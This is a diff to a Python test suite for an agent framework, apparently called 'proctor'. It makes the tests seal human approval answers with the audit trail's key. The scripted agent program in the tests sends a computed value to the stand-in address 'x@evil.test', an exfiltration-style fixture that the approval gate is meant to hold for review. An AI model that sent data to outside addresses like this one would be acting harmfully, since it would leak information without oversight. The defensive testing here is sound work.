@@ -16,7 +16,7 @@ from proctor import CodeAgent, InboxApprover, Policy, RunStore, ScriptedModel
 from proctor.cli import main
 from proctor.errors import StoreError
 from proctor.policy.approvers import os_account
-from proctor.store import ApprovalAnswer
+from proctor.store import AnswerSeal, ApprovalAnswer, PendingApproval
 from proctor.testing import SpanCapture
 
 PROGRAM = "```py\nn = look(1)\nfinal_answer(send('x@evil.test', str(n)))\n```"
@@ -49,6 +49,11 @@ def _agent(store: RunStore, tmp: Path, responses: list[str], policy: Policy | No
                      audit=str(tmp / "audit.jsonl"), store=store, sandbox="process", **kwargs)
 
 
+def _sealed(tmp: Path, pending: PendingApproval, answer: ApprovalAnswer) -> ApprovalAnswer:
+    """`answer` sealed as the inbox or the CLI seal it: with the key of the run's trail for answers."""
+    return AnswerSeal.of_trail(str(tmp / "audit.jsonl")).sealed(pending, answer)
+
+
 def _suspend(store: RunStore, tmp: Path, **kwargs: Any) -> str:
     with _agent(store, tmp, [PROGRAM], **kwargs) as agent:
         r = agent.run("mail it", principal="alice")
@@ -65,7 +70,8 @@ def test_an_answer_within_wait_moves_the_run_on_without_suspending(env: tuple[Ru
         for _ in range(600):
             pending = other.list_approvals()
             if pending:
-                other.answer_approval(pending[0].id, ApprovalAnswer("approve", "bob"), binding=pending[0].binding)
+                other.answer_approval(pending[0].id, _sealed(tmp, pending[0], ApprovalAnswer("approve", "bob")),
+                                      binding=pending[0].binding)
                 return
             time.sleep(0.05)
 
@@ -87,7 +93,8 @@ def test_resumed_run_links_to_its_first_trace(env: tuple[RunStore, str, Path]) -
     with _agent(store, tmp, [PROGRAM], tracer=capture.tracer) as agent:
         first = agent.run("mail it", principal="alice")
         [pending] = store.list_approvals()
-        store.answer_approval(pending.id, ApprovalAnswer("approve", "bob"), binding=pending.binding)
+        store.answer_approval(pending.id, _sealed(tmp, pending, ApprovalAnswer("approve", "bob")),
+                              binding=pending.binding)
         second = agent.resume(first.run_id)
     assert second.status == "done" and second.trace_id != first.trace_id
     runs = capture.spans("invoke_agent")
@@ -107,7 +114,7 @@ def test_budgets_used_before_the_pause_still_count(env: tuple[RunStore, str, Pat
     with _agent(store, tmp, ["```py\nfirst = look(1)\n```", step2], policy=policy) as agent:
         run_id = agent.run("go", principal="alice").run_id
     [pending] = store.list_approvals()
-    store.answer_approval(pending.id, ApprovalAnswer("approve", "bob"), binding=pending.binding)
+    store.answer_approval(pending.id, _sealed(tmp, pending, ApprovalAnswer("approve", "bob")), binding=pending.binding)
     with _agent(store, tmp, [], policy=policy) as agent:
         r = agent.resume(run_id)
     assert r.status == "done" and "one-look" in r.answer
@@ -155,6 +162,7 @@ def test_approvals_cli_json_fields_and_refusals(env: tuple[RunStore, str, Path],
     run_id = _suspend(store, tmp)
     capsys.readouterr()
     monkeypatch.setenv("PROCTOR_STORE", url)
+    monkeypatch.setenv("PROCTOR_AUDIT", str(tmp / "audit.jsonl"))  # the run's trail: its key seals the answers
     assert main(["approvals", "list", "--json"]) == 0
     [item] = json.loads(capsys.readouterr().out)
     for key in ("id", "run_id", "tool", "args", "binding", "principal", "rules", "reason", "requested_at"):
@@ -185,7 +193,7 @@ def test_redacted_arguments_stay_redacted_in_the_store_and_the_answer_still_bind
     [pending] = store.list_approvals()
     assert pending.args["to"] == "x@evil.test" and "$redacted" in pending.args["body"]
     assert '"10"' not in json.dumps(pending.as_dict()["args"])  # the clear value; its digest may hold "10"
-    store.answer_approval(pending.id, ApprovalAnswer("approve", "bob"), binding=pending.binding)
+    store.answer_approval(pending.id, _sealed(tmp, pending, ApprovalAnswer("approve", "bob")), binding=pending.binding)
     with _agent(store, tmp, [], policy=policy) as agent:
         r = agent.resume(run_id)
     assert r.status == "done" and r.answer == "sent 10 to x@evil.test"
@@ -209,7 +217,7 @@ def test_runs_show_and_audit_show_print_a_suspended_run_then_its_end(
     for expected in ("n = look(1)", "look(x=1)", "send(body='10', to='x@evil.test')", "require_approval mail",
                      f"run suspended at step 1: waiting for approval {pending.id}", "suspended"):
         assert expected in logged, (expected, logged)
-    store.answer_approval(pending.id, ApprovalAnswer("approve", "bob"), binding=pending.binding)
+    store.answer_approval(pending.id, _sealed(tmp, pending, ApprovalAnswer("approve", "bob")), binding=pending.binding)
     with _agent(store, tmp, []) as agent:
         assert agent.resume(run_id).status == "done"
     assert main(["runs", "show", run_id, "--store", url]) == 0
@@ -246,7 +254,7 @@ def test_a_resume_that_cannot_go_on_runs_nothing_and_leaves_the_run_answerable(
     store, _, tmp = env
     run_id = _suspend(store, tmp)
     [pending] = store.list_approvals()
-    store.answer_approval(pending.id, ApprovalAnswer("approve", "bob"), binding=pending.binding)
+    store.answer_approval(pending.id, _sealed(tmp, pending, ApprovalAnswer("approve", "bob")), binding=pending.binding)
     monkeypatch.setitem(__import__("sys").modules, "litellm", None)  # litellm not installed
     broken = CodeAgent(TOOLS, LiteLLMModel("openai/gpt-4o-mini"), _policy(), approver=InboxApprover(store, wait="0s"),
                        audit=str(tmp / "audit.jsonl"), store=store, sandbox="process")
@@ -287,9 +295,11 @@ def test_an_approval_deadline_holds_across_processes(env: tuple[RunStore, str, P
     [expired] = store.list_approvals(status="expired")
     assert expired.id == pending.id
     with pytest.raises(ApprovalExpired, match="expired at"):
-        store.answer_approval(pending.id, ApprovalAnswer("approve", "bob"), binding=pending.binding)
+        store.answer_approval(pending.id, _sealed(tmp, pending, ApprovalAnswer("approve", "bob")),
+                              binding=pending.binding)
     capsys.readouterr()
-    assert main(["approvals", "approve", pending.id, "--store", url, "--as", "bob"]) == 1
+    assert main(["approvals", "approve", pending.id, "--store", url, "--as", "bob", "--audit",
+                 str(tmp / "audit.jsonl")]) == 1
     err = capsys.readouterr().err
     assert "expired" in err and len(err.strip().splitlines()) == 1
     with _agent(store, tmp, ["```py\nfinal_answer('gave up')\n```"], policy=policy) as agent:
